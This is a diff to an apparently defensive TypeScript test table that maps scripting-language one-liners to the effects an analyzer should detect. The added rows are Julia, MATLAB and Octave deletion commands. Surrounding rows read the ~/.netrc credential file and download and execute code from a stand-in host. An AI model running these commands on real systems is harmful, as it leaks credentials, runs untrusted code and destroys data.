@@ -69,6 +69,19 @@ const rows: Readonly<Record<string, readonly (readonly [string, readonly string[
     [`julia -e 'print(read(homedir() * "/.netrc", String))'`, ['read /home/me/.netrc']],
     [`julia -e 'include(download("https://x.example/a.jl"))'`, ['download x.example', 'execute x.example']],
     [`julia -e 'println("rm(1)")'`, []],
+    [`julia -e 'foreach(rm, readdir("out", join=true))'`, ['delete ? whole', 'delete ? whole']],
+    [
+      `julia -e 'for (r, d, f) in walkdir("out"), x in f; rm(joinpath(r, x)); end'`,
+      ['delete ? whole', 'delete ? whole'],
+    ],
+    [`julia -e 'println(readdir("out"))'`, []],
+  ],
+  matlab: [
+    [`matlab -batch "rmdir('out', 's'); mkdir('out')"`, ['delete /proj/out whole']],
+    [`matlab -nodisplay -r "delete('out/*.mat'); exit"`, ['delete ?', 'delete ?']],
+    [`octave --eval "system('rm -r out')"`, ['delete /proj/out whole']],
+    [`octave --eval "disp('rmdir(out)')"`, []],
+    [`matlab -batch "run_all % rmdir('out')"`, []],
   ],
   groovy: [
     [`groovy -e 'new File("out").deleteDir()'`, ['delete /proj/out whole']],
